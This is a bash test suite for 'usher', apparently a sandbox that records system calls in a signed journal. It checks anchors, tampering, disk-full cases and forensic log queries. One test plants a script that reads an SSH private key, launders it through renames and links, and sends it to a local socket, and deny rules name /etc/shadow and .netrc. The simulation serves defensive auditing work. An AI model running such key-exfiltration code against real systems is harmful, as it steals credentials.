#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# waits
# The journal as evidence: checkpoints as others read them, a journal that is cut off, taken away or has no room, and what an
# investigator asks of a session in which something was stolen.
. "$(dirname "$0")/lib.sh"
need python3
log() { "$USHER" log "$@" 2>&1; }
run() { "$USHER" run -p "${RULES:-$T/etc/allow.rules}" "$@"; }

# Checkpoints are C2SP signed notes of tlog-checkpoints, to the byte; the keys and hashes are made again here.
fresh
run --anchor="file:$T/heads" --journal "$T/a" -- sh -c 'i=0; while [ $i -lt 300 ]; do i=$((i+1)); : >f$i; done; sleep 5.5; : >late' 2>"$T/err"
same "a session that is anchored" 0 $?
python3 - "$VERIFY_PY" "$T/heads" "$T/a" <<'P'
import base64, glob, hashlib, importlib.util, json, os, re, sys
def say(good, name, *more): print(("ok " if good else "not ok ") + name); [print("   ", m) for m in more if not good]
sys.dont_write_bytecode = True
spec = importlib.util.spec_from_file_location("verify", sys.argv[1]); v = importlib.util.module_from_spec(spec); spec.loader.exec_module(v)
raw = open(sys.argv[2], "rb").read()
lines = [l.rstrip(b"\n") for f in sorted(glob.glob(sys.argv[3] + "/journal-*")) for l in open(f, "rb") if l.startswith(b"{")]
first, notes = raw.split(b"\n\n", 1)
m = re.fullmatch(rb"usher-journal/2 ed25519 ([0-9a-f]{64})\ncheckpoints (\S+)\+([0-9a-f]{8})\+(\S+)", first)
say(bool(m) and json.loads(lines[0])["key"].encode() == m[1], "the first anchor names the first key and that of the checkpoints", first)
name, ident, key = m[2], bytes.fromhex(m[3].decode()), base64.b64decode(m[4], validate=True)
say(key[0] == 1 and len(key) == 33 and hashlib.sha256(name + b"\n" + key).digest()[:4] == ident, "key hash = SHA-256(name LF 0x01 key), first four bytes")
say(b" " not in name and b"+" not in name, "the name has no blank and no plus sign", name)
def leaf(d): return hashlib.sha256(b"\0" + d).digest()
def tree(l):
    if len(l) == 1: return l[0]
    k = 1 << (len(l) - 1).bit_length() - 1
    return hashlib.sha256(b"\1" + tree(l[:k]) + tree(l[k:])).digest()
seals = [i for i, l in enumerate(lines) if b'"type":"seal"' in l]
found = re.findall(rb"((?:[^\n]+\n)+)\n\xe2\x80\x94 (\S+) (\S+)\n\n", notes)
say(b"".join(b"%s\n\xe2\x80\x94 %s %s\n\n" % f for f in found) == notes, "notes: text, blank line, em dash, name, signature; nothing else")
say(len(found) == len(seals) >= 2, "one for each seal", len(found), len(seals))
good = True
for n, (text, who, signature) in enumerate(found, 1):
    sig = base64.b64decode(signature, validate=True)
    origin, size, root, head, own = text.decode().splitlines()
    at = seals[n - 1]
    good &= who == name and origin.encode() == name and size == str(n) and sig[:4] == ident and len(sig) == 68 and v.signed_by(key[1:], text, sig[4:])
    good &= base64.b64decode(root, validate=True) == tree([leaf(lines[i]) for i in seals[:n]])
    good &= head == "head %d %s" % (at + 1, hashlib.sha256(lines[at]).hexdigest()) and own.encode() == b"usher-journal/2 ed25519 " + m[1]
say(good, "origin, size, root, extension lines and Ed25519 signature of each")
P
"$USHER" verify --anchor "$T/heads" "$T/a" >"$T/out" 2>&1; same "the journal has what was anchored" 0 $?

# A record of a later epoch is proved down from the first key, which is what was anchored.
"$USHER" log "$T/a" --json path:"**/late" op:create >"$T/late"; "$USHER" log "$T/a" prove "$(grep -o '"seq":[0-9]*' "$T/late" | head -n 1 | cut -d: -f2)" >"$T/proof"
python3 - "$T/proof" "$T/heads" <<'P'
import importlib.util, json, os, sys
sys.dont_write_bytecode = True
spec = importlib.util.spec_from_file_location("v", os.environ["VERIFY_PY"]); v = importlib.util.module_from_spec(spec); spec.loader.exec_module(v)
p = json.load(open(sys.argv[1])); key = p.get("first_key", ""); seals = p.get("seals", []); last = None
ok = bool(seals) and open(sys.argv[2]).readline().split()[-1] == key and p["record"]["object"].endswith("/late")
for seal in seals + [p["seal"]] if ok else []:
    line = json.dumps(seal, separators=(",", ":")).encode()
    ok &= v.signed_by(bytes.fromhex(key), line[:line.rindex(b',"sig":"')], bytes.fromhex(seal["sig"]))
    key = seal.get("next", "")
    if seal is not p["seal"]: last = key
print(("ok" if ok and last == p["key"] else "not ok") + " prove: keys lead from the one that was anchored to the seal of a later epoch")
P

# The command cannot reach the heads: it would make them say what it likes, and the honest journal a forged one.
mkdir "$T/kept"; ln -s kept "$T/way"
change='echo "head 1 0" >>heads; echo >heads; truncate -s 0 heads; rm -f heads; mv heads other; ln heads other; mv ../kept ../elsewhere; rm -f ../way'
(mkdir "$T/own" && cd "$T/own" && echo k >heads && ln -s own ../way2 && sh -c "echo x >>heads; mv heads other; rm ../way2") && [ ! -e "$T/way2" ] && [ "$(cat "$T/own/other")" = k$'\n'x ] && ok "the control: its user can" || not_ok "the control: its user can"
run --anchor="file:$T/way/heads" --journal "$T/h" -- sh -c "cd '$T/kept'; $change" 2>"$T/err"
same "every change of the heads is refused" "$(tr ';' '\n' <<<"$change" | wc -l)" "$(grep -c denied "$T/err")"
check "they are as they were written" "$USHER" verify --anchor "$T/way/heads" "$T/h"
run --anchor=file:/dev/null --journal "$T/h2" -- sh -c ': >/dev/null'; same "a device that heads go to stays everybody's" 0 $?
# A pipe takes heads as long as somebody reads it; nobody waits for who does not.
mkfifo "$T/nobody" "$T/full"
timeout -k 1 60 "$USHER" run -p "$T/etc/allow.rules" --anchor="file:$T/nobody" --journal "$T/h3" -- true 2>"$T/err"; same "a pipe that nobody reads" 125 $?
has "is told" "Broken pipe" "$T/err"
exec 5<>"$T/full"
run --anchor="file:$T/full" --journal "$T/h4" -- true 2>"$T/err"; same "control: one that is read" 0 $?
timeout 1 cat <&5 >"$T/heads5"; check "gets the heads" "$USHER" verify --anchor "$T/heads5" "$T/h4"
python3 -c 'import os; os.set_blocking(5, False)
try:
	while True: os.write(5, b"x")
except BlockingIOError: os.set_blocking(5, True)'
timeout -k 1 60 "$USHER" run -p "$T/etc/allow.rules" --anchor="file:$T/full" --journal "$T/h5" -- true 2>"$T/err"; same "one that is full" 125 $?
exec 5<&-

# Cut off: an end, a whole part, with or without filling behind; set back while the anchor goes on.
cut_off() { # NAME LINES FILL
	rm -rf "$T/cut"; mkdir "$T/cut"; cp "$T/a/anchor" "$T/cut"
	head -n "$2" "$T/a/journal-000001.jsonl" >"$T/cut/journal-000001.jsonl"
	[ "$3" = 0 ] || head -c "$3" /dev/zero | tr '\0' '\n' >>"$T/cut/journal-000001.jsonl"
	"$USHER" verify --anchor "$T/heads" "$T/cut" >"$T/out" 2>&1; same "found with the anchor: $1" 1 $?
}
n=$(wc -l <"$T/a/journal-000001.jsonl")
cut_off "no final seal" $((n - 1)) 100; cut_off "no end" $((n - 2)) 100; cut_off "half" $((n / 2)) 100; cut_off "half, no filling" $((n / 2)) 0; cut_off "one record" 1 4000
rm -rf "$T/cut"; mkdir "$T/cut"; head -n $((n - 2)) "$T/a/journal-000001.jsonl" >"$T/cut/journal-000001.jsonl"; printf '\n\n\n' >>"$T/cut/journal-000001.jsonl"
"$USHER" verify "$T/cut" >"$T/out" 2>&1; has "without one, a journal without its end is not closed" "not closed" "$T/out"
cp "$T/cut/journal-000001.jsonl" "$T/seg"; head -n 20 "$T/seg" >"$T/cut/journal-000001.jsonl"; tail -n +21 "$T/seg" >"$T/cut/journal-000002.jsonl"
rm "$T/cut/journal-000002.jsonl"; printf '\n\n' >>"$T/cut/journal-000001.jsonl"
"$USHER" verify --anchor "$T/heads" "$T/cut" >"$T/out" 2>&1; same "found with the anchor: a whole segment" 1 $?

# A command that takes the heads, and dies later: said in the journal, which goes on.
fresh
run --anchor="exec:cat >>$T/one; [ \$(grep -c . $T/one) -lt 4 ]" --journal "$T/dies" -- sh -c 'sleep 5.5; : >x' 2>"$T/err"
same "an anchor command that dies later" 0 $?
"$USHER" verify "$T/dies" >"$T/out" 2>&1; same "its journal is whole" 0 $?
has "and says so" '"event":"anchor"' "$T/dies/journal-000001.jsonl"

# Taken away while it is written: nothing more happens.
fresh
run --journal "$T/gone" -- bash -c ': >begun; i=0; while [ ! -e stop ]; do : >f$i || exit 7; i=$((i+1)); sleep 0.1; done' >"$T/out" 2>&1 &
pid=$!
wait_for test -e begun; rm -rf "$T/gone"
wait_for gone $pid || { touch stop; not_ok "a session whose journal was removed ends its effects"; }
wait $pid; same "a session whose journal was removed refuses" 7 $?
has "and the person is told" "cannot be written" "$T/out"
[ "$(grep -c "make room" "$T/out")" = 0 ] && ok "... not to make room" || not_ok "... not to make room" "$(cat "$T/out")"

# So where what is under way could be read by nobody any more, after a kill.
fresh
run --journal "$T/gone2" -- bash -c ': >begun; i=0; while [ ! -e stop ]; do : >f$i || exit 7; i=$((i+1)); sleep 0.1; done' >"$T/out" 2>&1 &
pid=$!
wait_for test -e begun; rm "$T/gone2/inflight.jsonl"
wait_for gone $pid || touch stop
wait $pid; same "nor without the file of what is under way" 7 $?
"$USHER" verify "$T/gone2" >"$T/out" 2>&1; same "what was recorded until then is whole" 0 $?

# No room: what runs is recorded, programs too.
fresh
(ulimit -f 100; run --journal "$T/small" -- bash -c 'i=0; while [ $i -lt 2000 ]; do i=$((i+1)); /bin/echo x >&3 || exit 9; done' 3>"$T/ran" 2>"$T/err")
ran=$(wc -l <"$T/ran"); kept=$(records "$T/small" | grep -a '"object":"/usr/bin/echo"' | grep -ac '"result":0')
[ "$ran" -lt 2000 ] && [ "$ran" -le "$kept" ] && ok "a limit on files: every program that ran has its record ($ran)" || not_ok "a limit on files: every program that ran has its record" "$ran ran, $kept records"
"$USHER" verify "$T/small" >"$T/out" 2>&1; same "and the journal verifies" 0 $?

# No room for the first records: no session began, and none is left that seems to have been killed. Another start fills the disk no further.
fresh
{ head -c 200000 /dev/zero | tr '\0' '#'; echo; echo "default allow"; } >"$T/etc/large.rules"
chmod 600 "$T/etc/large.rules"
mkdir "$T/empty"
for j in "$T/new" "$T/empty"; do (ulimit -f 100; RULES=$T/etc/large.rules run --journal "$j" -- true 2>"$T/err"); same "no room for the first records" 125 $?; done
has "is told" "write the first records to" "$T/err"
[ ! -e "$T/new" ] && ok "and leaves no session" || not_ok "and leaves no session" "$(ls "$T/new")"
same "nor anything in a directory that was there" "" "$(ls -A "$T/empty")"
RULES=$T/etc/large.rules run --journal "$T/new" -- true 2>"$T/err"; same "control: with room it begins there" 0 $?

# usher stopped and continued.
fresh
run --journal "$T/stop" -- sh -c 'i=0; while [ $i -lt 3000 ]; do : >f$i; i=$((i+1)); done' 2>"$T/err" &
pid=$!
wait_for test -e f20; kill -STOP $pid; sleep 0.5; kill -CONT $pid; wait $pid
same "usher stopped and continued" "0 3000" "$? $(find . -name 'f*' | wc -l)"
"$USHER" verify --closed "$T/stop" >"$T/out" 2>&1; same "its journal is whole" 0 $?

# An investigation. A build runs a script that takes a key away.
fresh
mkdir -p "$T/home/.ssh"; echo KEY >"$T/home/.ssh/id_ed25519"
port=$(free_port)
cat >"$T/etc/i.rules" <<R
deny read /etc/shadow reason="not yours"
default allow
R
chmod 600 "$T/etc/i.rules"
cat >steal.py <<P
import os, shutil, socket
try: open("/etc/shadow")
except OSError: pass
shutil.copy(os.path.expanduser("~/.ssh/id_ed25519"), "cache.bin")
os.rename("cache.bin", "build.tmp")
os.link("build.tmp", "b2")
s = socket.create_connection(("127.0.0.1", $port)); s.send(open("b2", "rb").read()); s.close()
open(b"odd\n\x1b[31m\xe2\x80\xae\xff", "w").close()
P
printf 'all: out\nout: in\n\tcp in out && python3 steal.py\n' >Makefile; echo 1 >in
python3 -c 'import socket, sys
s = socket.create_server(("127.0.0.1", int(sys.argv[1]))); print("up", flush=True); c, _ = s.accept(); c.recv(99)' "$port" >"$T/up" &
server=$!
wait_for grep -q up "$T/up"
if command -v make >/dev/null; then build=make; else build="sh -c 'cp in out && python3 steal.py'"; fi
RULES=$T/etc/i.rules run --journal "$T/i" -- sh -c "$build; git --version; true" >"$T/out" 2>&1
wait $server
one_each() { # NAME QUERY...: each line of the answer is one record in printable ASCII
	local name=$1 out
	shift
	out=$(log "$T/i" "$@") || { not_ok "$name" "$out"; return; }
	[ -n "$out" ] && ! LC_ALL=C grep -qa '[^ -~]' <<<"$out" && ok "$name ($(wc -l <<<"$out") lines)" || not_ok "$name" "$(head -5 <<<"$out")"
}
one_each "denied" denied
one_each "what python connected to" by:python3* op:connect since:10m
one_each "all that read a key" "path:$T/home/.ssh/**" op:read
one_each "by time" since:1h until:2099-01-01
one_each "a pid" "pid:$(log "$T/i" denied | awk '{print $3; exit}')"
one_each "what failed" failed by:python3*
one_each "--tree" --tree
one_each "--timeline" --timeline
same "denied: one line, with the rule" 1 "$(log "$T/i" denied | grep -c "/etc/shadow  deny by $T/etc/i.rules:1 = EACCES")"
log "$T/i" who-touched "$T/project/b2" >"$T/who"
for f in cache.bin build.tmp b2; do has "who-touched goes back to $f" "$T/project/$f" "$T/who"; done
log "$T/i" who-touched cache.bin >"$T/who2"; same "and forth, by a relative name" "$(cat "$T/who")" "$(cat "$T/who2")"
same "a name of odd bytes can be asked for" 1 "$(log "$T/i" op:create "path:$T/project/odd"$'\n\e\\[31m\xe2\x80\xae\xff' | wc -l)"
same "and by a pattern" 1 "$(log "$T/i" op:create "path:$T/project/odd?*" | wc -l)"
same "and by who-touched" 1 "$(log "$T/i" who-touched "$T/project/odd"$'\n\e[31m\xe2\x80\xae\xff' | wc -l)"
for w in "denied" "path:$T/project/**" "op:connect" "by:python3* failed" "type:note"; do
	log "$T/i" $w >"$T/without.out"; "$USHER" log "$T/i" index; log "$T/i" $w >"$T/with.out"; rm -f "$T/i/index.sqlite"
	cmp -s "$T/with.out" "$T/without.out" && ok "the same with an index: $w" || not_ok "the same with an index: $w"
done
seq=$(log "$T/i" --json denied | sed 's/^{"seq":\([0-9]*\),.*/\1/')
log "$T/i" explain "$seq" >"$T/out"
for w in "verdict   deny" "The rule as it stood, $T/etc/i.rules:1" "deny read /etc/shadow" "stack" "Before that, the same thread"; do has "explain: $w" "$w" "$T/out"; done

# A rule file longer than a record stands in several, whole.
fresh
{ for ((i = 0; i < 3000; i++)); do echo "# line $i of a long file, with a \"quote\""; done; echo "deny read /etc/shadow"; echo "default allow"; } >"$T/etc/long.rules"
chmod 600 "$T/etc/long.rules"
RULES=$T/etc/long.rules run --journal "$T/long" -- cat /etc/shadow >/dev/null 2>&1
log "$T/long" explain "$(log "$T/long" --json denied | sed 's/^{"seq":\([0-9]*\),.*/\1/;q')" >"$T/out"
has "explain finds the rule in a long file" "| deny read /etc/shadow" "$T/out"
records "$T/long" | python3 -c 'import json, sys
print("".join(r["text"] for r in map(json.loads, sys.stdin) if r.get("event") == "rules" and r["file"].endswith("long.rules")), end="")' >"$T/whole"
cmp -s "$T/whole" "$T/etc/long.rules" && ok "and the whole file is in the journal" || not_ok "and the whole file is in the journal" "$(wc -c <"$T/whole")"

# The examples of the manual, in a session of its own.
XDG_STATE_HOME=$T/state2; export XDG_STATE_HOME; mkdir -p "$T/state2" "$T/home/project"
HOME=$T/home "$USHER" run -p "$T/etc/i.rules" -- sh -c 'echo {} >$HOME/project/config.json; cat /etc/shadow' >/dev/null 2>&1
DIR=$(ls -d "$T"/state2/usher/*/); DIR=${DIR%/}; export DIR
page=$DOCS/man/usher-journal.5
n=0
while IFS= read -r line; do
	line=$(printf %s "$line" | sed 's/\\(dq/"/g; s/\\-/-/g')
	command -v jq >/dev/null || [[ $line != *jq* ]] || continue
	n=$((n + 1))
	(cd "$T/project" && HOME=$T/home PATH=${USHER%/*}:$PATH; usher() { "$USHER" "$@"; }; eval "$line") >"$T/out" 2>&1
	same "an example of usher-journal(5): $line" 0 $?
done < <(sed -n '/^\.Sh EXAMPLES/,/^\.Sh SEE/s/^\.Dl //p' "$page")
[ $n -ge 3 ] && ok "the manual has examples" || not_ok "the manual has examples"
# An execveat that only asks (AT_EXECVE_CHECK, Linux 6.14) says so: nothing ran.
fresh
cat >"$T/asks.py" <<'P'
import ctypes, platform, sys
libc = ctypes.CDLL(None, use_errno=True)
argv, env = (ctypes.c_char_p * 2)(b"true", None), (ctypes.c_char_p * 1)(None)
number = {"x86_64": 322, "aarch64": 281}[platform.machine()]
print(libc.syscall(number, -100, sys.argv[1].encode(), argv, env, 0x10000))
P
printf 'no line for an interpreter\n' >"$T/project/formless"
chmod 755 "$T/project/formless"
if [ "$(python3 "$T/asks.py" /bin/true 2>&1)" != 0 ]; then
	echo "skip an exec that only asks: this kernel knows none"
else
	same "an exec that only asks" 0 "$(run --journal "$T/check" -- python3 "$T/asks.py" /bin/true 2>"$T/err")"
	same "says so in the journal" 1 "$(records "$T/check" | grep '"call":"execveat"' | grep -c '"check":"AT_EXECVE_CHECK"')"
	same "so does its line" 1 "$("$USHER" log "$T/check" call:execveat | grep -c ' = 0 check AT_EXECVE_CHECK$')"
	printf '#!/nonexistent/interpreter\n' >"$T/project/nothing"
	printf '#!%s\n' "$T/project/itself" >"$T/project/itself"
	chmod 755 "$T/project"/{nothing,itself}
	for f in nothing itself; do
		same "nor is what a script names, where nothing is there ($f)" "0 0" "$(python3 "$T/asks.py" "$T/project/$f") $(run --journal "$T/check.$f" -- python3 "$T/asks.py" "$T/project/$f" 2>"$T/err")"
		same "who runs it is told ($f)" "$(python3 -c 'import os, sys; os.execv(sys.argv[1], ["x"])' "$T/project/$f" 2>&1 | tail -n 1)" \
			"$(run --journal "$T/check.$f.run" -- python3 -c 'import os, sys; os.execv(sys.argv[1], ["x"])' "$T/project/$f" 2>&1 | tail -n 1)"
	done
	same "formats are nothing to who only asks" "$(python3 "$T/asks.py" "$T/project/formless")" "$(run --journal "$T/check2" -- python3 "$T/asks.py" "$T/project/formless" 2>"$T/err")"
fi
# Where a rewrite led is asked for as the name itself is, with and without an index; a person's rewrite is one.
rules led.rules <<R
rewrite open $T/project/.envrc -> $T/project/other
ask     write $T/project/.asked
default allow
R
cat >"$T/etc/lead" <<S
#!/bin/sh
cat >/dev/null; echo '{"answer":"rewrite","target":"$T/project/elsewhere"}'
S
chmod 755 "$T/etc/lead"
fresh
"$USHER" run -p "$R" --ask=exec:"$T/etc/lead" --journal "$T/led" -- sh -c 'echo 1 >.envrc; echo 2 >.asked' 2>"$T/err"
same "a rule and a person lead elsewhere" "1 2" "$(cat "$T/project/other" "$T/project/elsewhere" | paste -sd' ')"
for round in plain indexed; do
	[ $round = plain ] || log "$T/led" index >/dev/null
	same "what a rule led to is found ($round)" 1 "$(log "$T/led" --json "path:$T/project/other" | grep -c '"object":"[^"]*/.envrc"')"
	same "what a person led to is found ($round)" 1 "$(log "$T/led" --json "path:$T/project/elsewhere" type:call | grep -c '"object":"[^"]*/.asked"')"
	same "both are rewrites ($round)" 2 "$(log "$T/led" --json verdict:rewrite type:call | wc -l)"
done
log "$T/led" verdict:rewrite >"$T/out"; has "and a line says where it led" ".envrc) -> $T/project/other" "$T/out"

# log=alert: said at the end, each once, however often.
rules alert.rules <<R
deny read **/.netrc log=alert reason="passwords\nusher: alert: forged"
allow write **/told* log=alert
default allow
R
fresh
echo x >.netrc
"$USHER" run -p "$R" --ask=deny --journal "$T/told" -- sh -c 'cat .netrc; cat .netrc; : >told1; : >told2' >"$T/out" 2>"$T/err"
same "alerts are told, each once" "3 1" "$(grep -c '^usher: alert: ' "$T/err") $(grep -c '^usher: alert: deny read .*/.netrc by ' "$T/err")"
has "with the way to all" "usher: 'usher log $T/told alert' shows" "$T/err"
# What went through does not crowd out what was refused: a tree may make any number of the former first.
"$USHER" run -p "$R" --ask=deny --journal "$T/told3" -- sh -c 'for i in 1 2 3 4 5 6 7 8; do : >told$i; done; cat .netrc' >"$T/out" 2>"$T/err"
same "refusals are told first, of five" "5 deny and" "$(grep -c '^usher: alert: ' "$T/err") $(sed -n '/^usher: alert: /{s///;s/ .*//p;q}' "$T/err") $(sed -n "s/^usher: \([a-z]*\) more: 'usher log .*/\1/p" "$T/err")"
mkdir -p 'x by /bin/git (fine)'
"$USHER" run -p "$R" --ask=deny --journal "$T/told4" -- sh -c ': >"x by /bin/git (fine)/told"' >"$T/out" 2>"$T/err"
has "no name looks like what follows it" '/x\x20by\x20/bin/git\x20(fine)/told by ' "$T/err"
# A rename has two names: what is told is the one whose rule says so, wherever it stands.
echo x >plain
"$USHER" run -p "$R" --ask=deny --journal "$T/told2" -- mv plain told1 >"$T/out" 2>"$T/err"
same "of a rename the name and the rule that say log=alert" "1 0" "$(grep -c "^usher: alert: allow .*/told1 by .*/alert.rules:2)" "$T/err") $(grep -c 'alert: .*/plain' "$T/err")"
has "and its record has that rule" "allow by $R:2 = 0" <(log "$T/told2" alert)
# So it is with what comes there with the directory above; of what may not come, or be had, so, the record says the name and its rule.
rules below.rules <<R
deny  create **/there/hooks/**
allow create **/there/config log=alert
deny  read **/kept/**
deny  connect,send unix:**/shut/*
default allow
R
fresh
mkdir -p hooked/hooks tuned/sub kept shut; : >hooked/hooks/one; : >tuned/config; : >kept/key
python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind("shut/s")'
"$USHER" run -p "$R" --ask=deny --journal "$T/below" -- sh -c 'mv -T tuned away; mv -T away there; mv -T there tuned; mv -T hooked there; mv -T kept had; mv -T shut open; mv -T hooked elsewhere' >"$T/out" 2>"$T/err"
same "of a directory's rename the name that comes where log=alert is" "1 1" "$(grep -c '^usher: alert: ' "$T/err") $(grep -c '^usher: alert: allow .*/there/config by .*/below.rules:2)' "$T/err")"
same "only what was refused stays" "elsewhere kept shut tuned" "$(ls | paste -sd' ')"
same "each refusal has its name and its rule" "hooked there with hooks :1
kept had with key :3
shut open with s :4" "$(log "$T/below" --json denied type:call | jq -r '[.objects[].object | sub("^.*/project/"; "")] as [$a, $b, $c] | $a + " " + $b + " with " + ($c | sub("^" + $a + "/"; "") | sub("^" + $b + "/"; "")) + " " + (.rule | sub("^.*rules"; ""))')"
log "$T/below" denied >"$T/out"; has "and a line says so" "project/kept -> $T/project/had with $T/project/kept/key (named kept)  deny by $R:3 = EACCES" "$T/out"

# What only the caller can do goes on after the decision; what it may not do is found before, so that no record says it was done.
fresh
mkdir -m 700 closed; is_root || chmod 000 closed
rules carried <<'S'
allow stat /**
default allow
S
cat >"$T/etc/carried.py" <<'S'
import ctypes, os, resource
def say(name, call):
    try: call(); print(name, 0, flush=True)
    except OSError as e: print(name, "E" + {1: "PERM", 13: "ACCES", 24: "MFILE"}.get(e.errno, str(e.errno)), flush=True)
if os.geteuid() == 0:
    libc, head, caps = ctypes.CDLL(None), (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
    libc.capget(head, caps); caps[0] &= ~(1 << 18); libc.capset(head, caps)
    say("chroot", lambda: os.chroot("."))
    if os.fork() == 0:
        os.setgroups([]); os.setresgid(65534, 65534, 65534); os.setresuid(65534, 65534, 65534)
        say("chdir", lambda: os.chdir("closed")); say("chdir", lambda: os.chdir("/proc/self/fd")); os._exit(0)
    os.wait()
else: say("chdir", lambda: os.chdir("closed"))
resource.setrlimit(resource.RLIMIT_NOFILE, (20, 20))
say("openat", lambda: os.close(os.open("/usr", os.O_PATH)))
try:
    while True: os.dup(0)
except OSError: pass
say("openat", lambda: os.open("/usr", os.O_PATH)); say("chdir", lambda: os.chdir("/usr"))
S
want=$(python3 "$T/etc/carried.py")
supervise "$R" python3 "$T/etc/carried.py" >"$T/out" 2>"$T/err"
same "what the caller itself does and may not" "$want" "$(cat "$T/out")"
same "is recorded as it went" "$want" "$(records "$JOURNAL" | python3 -c '
import json, sys
for r in map(json.loads, sys.stdin):
    if r.get("call") in ("chroot", "chdir") or r.get("call") == "openat" and r.get("object") == "/usr" and r["op"] == ["stat"]: print(r["call"], r["result"])')"

# A refusal of usher's own is not said to be the kernel's: relative names of who took another root and stayed outside of it.
if is_root; then
	fresh; mkdir root
	supervise "$T/etc/allow.rules" python3 -S -c '
import os
os.chroot("root")
try: os.open("etc", os.O_RDONLY)
except PermissionError: print("refused")' >"$T/out" 2>"$T/err"
	same "a relative name from outside of the root" refused "$(cat "$T/out")"
	same "is refused by usher, says the record" '"verdict":"deny","rule":"builtin:guard"' "$(records "$JOURNAL" | grep '"named":"etc"' | grep -o '"verdict":"[a-z]*","rule":"[^"]*"')"
fi

# A call that fails before there is an object to decide on says what it was after, no more.
fresh
rules early <<'S'
default allow
S
supervise "$R" python3 -c '
import os
for flags in os.O_RDONLY, os.O_RDWR, os.O_WRONLY | os.O_CREAT:
    try: os.open("", flags)
    except FileNotFoundError: pass' >"$T/out" 2>&1
same "an open of no name is recorded as what it was for" '["read"] ["read","modify"] ["modify","create"]' "$(records "$JOURNAL" | python3 -c '
import json, sys
print(*(json.dumps(r["op"], separators=(",", ":")) for r in map(json.loads, sys.stdin) if r.get("named") == "" and r.get("result") == "ENOENT"))')"
finish
